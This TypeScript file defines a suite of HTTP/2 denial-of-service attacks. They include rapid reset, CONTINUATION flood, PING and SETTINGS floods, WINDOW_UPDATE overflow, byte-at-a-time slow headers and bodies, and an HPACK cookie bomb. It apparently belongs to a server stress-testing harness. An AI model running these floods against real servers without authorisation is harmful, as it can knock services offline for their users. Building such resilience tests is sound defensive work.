import { frameAttack } from './attack.ts';
import type { Attack } from './attack.ts';
import {
  callHeaders,
  flags,
  frame,
  frameTypes,
  literal,
  newestEntry,
  numberFrame,
} from './h2-frames.ts';

const { endHeaders, endStream } = flags;
const call = callHeaders();
const cancel = 0x8;
const largestIncrement = 0x7fff_ffff;

/** A client may use odd numbers, each once. */
function streamAt(at: number): number {
  return 1 + 2 * at;
}

function headers(stream: number, block: Uint8Array, flag: number): Buffer {
  return frame({ type: frameTypes.headers, stream, payload: block, flags: flag });
}

function many(count: number, make: (at: number) => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));
}

const ping = frame({ type: frameTypes.ping, payload: Buffer.alloc(8) });
const settings = frame({ type: frameTypes.settings });
const padding = literal('x-padding', 'a'.repeat(4_000));
const portion = 100;
const slowlyMs = 100;

/** Frames in numbers, orders and sizes that no honest client would send. */
export const frameAttacks: readonly Attack[] = [
  {
    name: 'HTTP/2 rapid reset',
    run: frameAttack({
      connections: 4,
      portion: (connection, at) =>
        connection.send(
          many(portion, (within) => {
            const stream = streamAt(at * portion + within);
            return Buffer.concat([
              headers(stream, call, endHeaders),
              numberFrame(frameTypes.resetStream, stream, cancel),
            ]);
          }),
        ),
    }),
  },
  {
    name: 'CONTINUATION flood',
    run: frameAttack({
      connections: 4,
      open: (connection) => connection.send(headers(1, call, 0)),
      portion: (connection) =>
        connection.send(
          many(4, () => frame({ type: frameTypes.continuation, stream: 1, payload: padding })),
        ),
    }),
  },
  {
    name: 'PING flood by a client that does not read',
    run: frameAttack({
      connections: 4,
      open: (connection) => Promise.resolve(connection.stopReading()),
      portion: (connection) => connection.send(many(portion, () => ping)),
    }),
  },
  {
    name: 'SETTINGS flood by a client that does not read',
    run: frameAttack({
      connections: 4,
      open: (connection) => Promise.resolve(connection.stopReading()),
      portion: (connection) => connection.send(many(portion, () => settings)),
    }),
  },
  {
    name: 'WINDOW_UPDATE beyond the largest window',
    run: frameAttack({
      connections: 4,
      portion: (connection, at) =>
        connection.send(
          Buffer.concat([
            headers(streamAt(at), call, endHeaders),
            numberFrame(frameTypes.windowUpdate, streamAt(at), largestIncrement),
            numberFrame(frameTypes.windowUpdate, 0, largestIncrement),
          ]),
        ),
    }),
  },
  {
    name: 'headers that come a byte at a time and never end',
    run: frameAttack({
      connections: 100,
      everyMs: slowlyMs,
      open: (connection) => connection.send(headers(1, call, 0)),
      portion: (connection) =>
        connection.send(
          frame({ type: frameTypes.continuation, stream: 1, payload: Buffer.from([0x00]) }),
        ),
    }),
  },
  {
    name: 'bodies that come a byte at a time and never end',
    run: frameAttack({
      connections: 30,
      everyMs: slowlyMs,
      open: (connection) =>
        connection.send(many(16, (at) => headers(streamAt(at), call, endHeaders))),
      portion: (connection) =>
        connection.send(
          many(16, (at) =>
            frame({ type: frameTypes.data, stream: streamAt(at), payload: Buffer.from([0x00]) }),
          ),
        ),
    }),
  },
  {
    name: 'DATA frames of one byte',
    run: frameAttack({
      connections: 4,
      open: (connection) => connection.send(headers(1, call, endHeaders)),
      portion: (connection) =>
        connection.send(
          many(portion, () =>
            frame({ type: frameTypes.data, stream: 1, payload: Buffer.from([0x00]) }),
          ),
        ),
    }),
  },
  {
    name: 'HPACK bomb: one long cookie, named thousands of times',
    run: frameAttack({
      connections: 4,
      portion: (connection, at) =>
        connection.send(
          headers(
            streamAt(at),
            Buffer.concat([
              call,
              literal('cookie', 'a'.repeat(3_900), true),
              many(4_000, () => newestEntry),
            ]),
            endHeaders | endStream,
          ),
        ),
    }),
  },
];
